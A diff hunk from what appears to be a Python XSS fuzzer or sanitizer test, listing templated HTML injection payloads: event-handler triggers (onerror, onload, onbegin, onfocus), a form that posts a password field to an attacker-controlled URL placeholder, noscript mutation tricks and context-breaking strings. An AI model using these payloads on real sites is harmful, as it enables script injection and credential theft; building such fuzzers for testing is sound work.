@@ -21,7 +21,7 @@ TAGS = (
     "<form {c} action={out}><input {c} name=password>", "<object {c} data={out}>", "<xq-canary></xq-canary>", "<template {c}>",
     "<svg {c}><animate {c} onbegin={call} attributeName=x dur=1s>", "<svg {c}><foreignObject><body {c} onload={call}>",
     "<svg {c}><use {c} href='{out}#x'/></svg>", "<noscript><p {c} title='</noscript><img {c} src=x onerror={call}>'>",
-    "<div {c} hx-get={out} hx-trigger=load>", "<div {c} data-key=e data-confirm=x>", "<live-stream {c} src={out}></live-stream>",
+    "<div {c} hx-get={out} hx-trigger=load>", "<div {c} data-key=e data-confirm=x>", "<live-stream {c}><stream-listener src={out}></stream-listener></live-stream>",
 )  # fmt: skip
 BREAKS = ("", '"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "\x00", "\n", "--!>", "</template>")  # fmt: skip
 ATTRIBUTES = ("{c}=1 onmouseover={call} ", "{c} autofocus onfocus={call} tabindex=0 ", "{c} style=x:expression({call}) ", "/{c}/onerror={call}//")  # fmt: skip
